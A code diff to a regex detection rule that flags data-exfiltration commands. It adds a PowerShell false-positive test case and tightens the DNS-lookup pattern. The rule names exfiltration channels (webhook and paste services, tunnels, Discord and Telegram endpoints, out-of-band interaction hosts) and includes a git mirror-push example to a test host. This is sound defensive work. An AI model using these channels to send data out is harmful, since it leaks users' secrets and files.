@@ -18,6 +18,7 @@ export const exfUploadExternalRule = defineRegexRule({
         { text: 'git remote add mirror https://git.test/x.git && git push --mirror mirror' },
       ],
       negative: [
+        { text: '```powershell\nWrite-Host $_.Output.ErrorInfo.Message\n```' },
         { text: 'curl -X POST https://api.example.com/v1/items -d \'{"name":"a"}\'' },
         { text: 'gh gist create notes.md  # private by default' },
         { text: 'git push origin feature/login' },
@@ -31,7 +32,7 @@ export const exfUploadExternalRule = defineRegexRule({
     /\bgh\s{1,3}gist\s{1,3}create\b[^\n]{0,80}(?:--public|-p)\b/i,
     /\bgit\s{1,3}push\s{1,3}(?:[^\n;|&]{0,40}\s)?--mirror\b/i,
     /\b(?:webhook\.site|requestbin|pipedream\.net|hookbin|beeceptor|ngrok-free\.app|ngrok\.io|trycloudflare\.com|transfer\.sh|file\.io|0x0\.st|pastebin\.com\/api|paste\.ee|termbin\.com|discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot|hooks\.slack\.com\/services|interact\.sh|oast\.(?:fun|pro|live|site|online|me)|burpcollaborator\.net|canarytokens)\b/i,
-    /\b(?:nslookup|dig|host)\s{1,3}[^\n]{0,40}\$\{?\w{1,30}\}?\.[\w-]{1,63}\./i,
+    /(?<![-\w])(?:nslookup|dig|host)\s{1,3}[^\n]{0,40}\$\{?\w{1,30}\}?\.[\w-]{1,63}\./i,
     /\bsendBeacon\(/,
   ],
   views: ['raw', 'normalized', 'hidden', 'decoded'],
